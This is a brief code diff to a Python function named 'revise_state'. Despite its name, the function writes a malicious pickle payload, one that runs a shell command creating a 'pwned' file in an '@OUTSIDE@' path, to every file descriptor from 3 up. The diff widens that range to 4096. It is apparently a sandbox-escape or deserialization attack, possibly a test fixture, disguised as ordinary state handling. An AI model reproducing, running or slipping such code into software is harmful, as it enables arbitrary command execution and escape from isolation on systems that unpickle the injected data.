@@ -4,7 +4,7 @@
 import os
 
 def revise_state(s):
-    for fd in range(3, 256):
+    for fd in range(3, 4096):
         try:
             os.write(fd, b"\x80\x04cposix\nsystem\n(S'touch @OUTSIDE@/pwned'\ntR.")
         except OSError:
